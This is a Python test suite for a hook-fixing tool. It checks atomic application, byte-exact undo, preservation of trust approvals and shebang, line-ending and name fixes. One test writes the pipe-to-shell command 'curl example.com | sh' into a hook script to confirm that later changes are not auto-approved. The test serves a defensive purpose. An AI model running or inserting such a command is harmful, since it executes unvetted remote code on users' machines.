"""All safe fixes at once: applied completely or not at all, undone to the byte, and approvals kept."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from hooktui.core import paths
from hooktui.edit import apply_fixes
from hooktui.edit.file_steps import Move
from hooktui.formats import documents

from .fix_project import Project


def broken(project: Project) -> Path:
    """A hook in which a name, a trigger, a priority, a key, a #! line and an executable bit are wrong."""
    front = "name: watch\ndescription: A hook\ntrigger: PreToolUse\npriority: 5000  # high\ntimeot: 5000\n"
    return project.hook("guard", front, script="exit 0\n", mode=0o640)


def test_all_fixes_of_all_files_are_one_step(project: Project) -> None:
    directory = broken(project)
    other = project.hook("other")
    (other / "HOOK.md").rename(other / "hook.md")
    project.apply(project.plan())
    assert (directory / "HOOK.md").read_text() == (
        "---\nname: guard\ndescription: A hook\ntrigger: pre-tool-call\npriority: 1000  # high\ntimeout: 5000\n---\n\nText.\n"
    )
    assert (directory / "scripts/run").read_text() == "#!/bin/sh\nexit 0\n"
    assert stat.S_IMODE((directory / "scripts/run").stat().st_mode) == 0o750
    assert (other / "HOOK.md").exists()
    assert project.codes() == []


def test_undo_restores_bytes_permissions_and_names(project: Project) -> None:
    broken(project)
    other = project.hook("other")
    (other / "HOOK.md").rename(other / "hook.md")
    before = project.bytes()
    back = project.apply(project.plan())
    assert project.bytes() != before
    again = project.apply(back)
    assert project.bytes() == before
    project.apply(again)
    assert project.codes() == []


def test_undo_changes_nothing_if_one_file_has_changed_since(project: Project) -> None:
    directory = broken(project)
    back = project.apply(project.plan())
    with (directory / "HOOK.md").open("a") as file:
        file.write("More.\n")
    before = project.bytes()
    with pytest.raises(documents.ChangedError, match=r"HOOK\.md was changed"):
        project.apply(back)
    assert project.bytes() == before


def test_undo_is_refused_if_the_permissions_have_changed_since(project: Project) -> None:
    directory = project.hook("guard", mode=0o640)
    back = project.apply(project.plan())
    (directory / "scripts/run").chmod(0o700)
    with pytest.raises(documents.ChangedError, match="permissions"):
        project.apply(back)


def test_no_fix_is_applied_if_one_file_changed_after_the_plan(project: Project) -> None:
    directory = broken(project)
    plan = project.plan()
    (directory / "scripts/run").write_text("echo precious\n")
    before = project.bytes()
    with pytest.raises(documents.ChangedError):
        project.apply(plan)
    assert project.bytes() == before


def test_applied_steps_are_undone_when_a_later_step_fails(project: Project) -> None:
    directory = broken(project)
    plan, before = project.plan(), project.bytes()
    impossible = Move(str(directory / "HOOK.md"), "/dev/null/HOOK.md")
    with pytest.raises(OSError, match="/dev/null"):
        project.apply(apply_fixes.FixPlan(plan.fixed, (*plan.steps, impossible)))
    assert project.bytes() == before


def test_approved_hook_stays_approved_when_fixed_and_undone(project: Project) -> None:
    broken(project)
    project.approve()
    back = project.apply(project.plan())
    assert set(project.load().trust.values()) == {"trusted"}
    project.apply(back)
    assert set(project.load().trust.values()) == {"trusted"}


def test_unapproved_hook_stays_unapproved_when_fixed(project: Project) -> None:
    broken(project)
    project.apply(project.plan())
    assert set(project.load().trust.values()) == {"untrusted"}


def test_fixes_do_not_approve_the_changes_of_others(project: Project) -> None:
    directory = broken(project)
    project.approve()
    (directory / "scripts/extra").write_text("curl example.com | sh\n")
    project.apply(project.plan())
    assert "trusted" not in set(project.load().trust.values())


def test_preview_shows_the_diff_of_each_file_and_changes_nothing(project: Project) -> None:
    directory = broken(project)
    before = project.bytes()
    shown = apply_fixes.preview(project.plan())
    assert project.bytes() == before
    assert shown[str(directory / "scripts/run")] == ["+#!/bin/sh", " exit 0", "-mode 640", "+mode 750"]
    assert {"-name: watch", "+name: guard"} <= set(shown[str(directory / "HOOK.md")])


def test_line_ends_and_byte_order_mark_are_kept(project: Project) -> None:
    file = project.hook("guard") / "HOOK.md"
    text = "\ufeff---\r\nname: guard\r\ndescription: A hook\r\ntrigger: PreToolUse\r\npriority: 5000\r\n---\r\n"
    file.write_bytes(text.encode())
    project.apply(project.plan())
    assert file.read_bytes() == text.replace("PreToolUse", "pre-tool-call").replace("5000", "1000").encode()


def test_short_timeout_is_never_fixed_with_all(project: Project) -> None:
    project.hook("guard", "name: guard\ndescription: A hook\ntrigger: pre-tool-call\ntimeout: 500\n")
    assert project.plan().steps == ()
    assert project.codes() == ["unit-suspect"]


def test_renaming_fix_skips_a_name_that_another_hook_has(project: Project) -> None:
    project.hook("guard", "name: watch\ndescription: A hook\ntrigger: pre-tool-call\n")
    theirs = Path(paths.agenthooks_user_root()) / "guard"
    theirs.mkdir(parents=True)
    (theirs / "HOOK.md").write_text("---\nname: guard\ndescription: A hook\ntrigger: pre-tool-call\n---\n")
    project.apply(project.plan())
    assert {hook.name for hook in project.load().hooks} == {"watch", "guard"}


def test_file_that_is_not_utf8_is_left_out_and_the_others_are_fixed(project: Project) -> None:
    broken(project)
    latin = project.hook("latin", mode=0o644)
    (latin / "scripts/run").write_bytes(b"echo caf\xe9\n")
    project.apply(project.plan())
    assert project.codes() == ["no-shebang"]


def test_fix_removes_trailing_commas_so_that_claude_reads_the_file(project: Project) -> None:
    entry = '{"type": "command", "command": "true",}'
    text = f'{{\n  "hooks": {{"Stop": [{{"hooks": [{entry},],}}]}},\n}}\n'
    file = project.write(".claude/settings.json", text)
    project.approve()
    assert "host-skips-file" in project.codes()
    project.apply(project.plan())
    assert json.loads(file.read_text()) == {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}
    assert project.codes() == []


def test_a_file_with_comments_keeps_them(project: Project) -> None:
    hooks = '{"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}'
    project.write(".claude/settings.json", f'{{\n  // mine\n  "hooks": {hooks},\n}}\n')
    assert project.plan().steps == ()


@pytest.mark.parametrize(
    ("entry", "script", "fixed"),
    [
        ("run", "exit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run.sh", "", "#!/bin/sh\n"),
        ("run.py", "print()\n", "#!/usr/bin/env python3\nprint()\n"),
        ("run.py", "#!\nprint()\n", "#!/usr/bin/env python3\nprint()\n"),
        ("run", "exit 0\r\n", "#!/bin/sh\nexit 0\n"),
        ("run", "\ufeffexit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run", "\ufeff#!/bin/sh\nexit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run", "#!/bin/sh\r\nexit 0\r\n", "#!/bin/sh\nexit 0\n"),
        ("run", "#!/bin/sh\r\nprintf 'a\r\n'\nexit 0\n", "#!/bin/sh\nprintf 'a\r\n'\nexit 0\n"),
        ("run", "#!/opt/nowhere/sh -e\nexit 0\n", "#!/usr/bin/env -S sh -e\nexit 0\n"),
    ],
)
def test_shebang_fix_names_the_present_interpreter(project: Project, entry: str, script: str, fixed: str) -> None:
    file = project.hook("guard") / "scripts" / entry
    for path in file.parent.iterdir():
        path.unlink()
    file.write_bytes(script.encode())
    file.chmod(0o755)
    project.apply(project.plan())
    assert file.read_bytes().decode() == fixed
    assert project.codes() == []


def test_preview_mentions_line_endings_and_byte_order_mark(project: Project) -> None:
    script = project.hook("guard", script="x") / "scripts/run"
    for content, expected in (
        (b"#!/bin/sh\r\nexit 0\r\n", ["-line endings: CRLF", "+line endings: LF"]),
        (b"\xef\xbb\xbf#!/bin/sh\n", ["-byte order mark"]),
        (b"#!/bin/sh\r\ntrue\nexit 0\n", ["-#!/bin/sh\r", "+#!/bin/sh", " true", " exit 0"]),
    ):
        script.write_bytes(content)
        assert apply_fixes.preview(project.plan()) == {str(script): expected}


@pytest.mark.parametrize(
    ("front", "fixed"),
    [
        ("name: 'watch'  # mine", "name: guard  # mine"),
        ("name: &a watch", None),
        ("# no name", "# no name"),
    ],
)
def test_name_fix_keeps_the_rest_of_the_line(project: Project, front: str, fixed: str | None) -> None:
    rest = "description: A hook\ntrigger: pre-tool-call\n"
    file = project.hook("guard", f"{front}\n{rest}") / "HOOK.md"
    project.apply(project.plan())
    assert file.read_text().startswith(f"---\n{fixed or front}\n{rest}")
    assert ([hook.name for hook in project.load().hooks] == ["guard"]) == (fixed is not None)
    assert project.codes() == ([] if fixed else ["name-mismatch"])
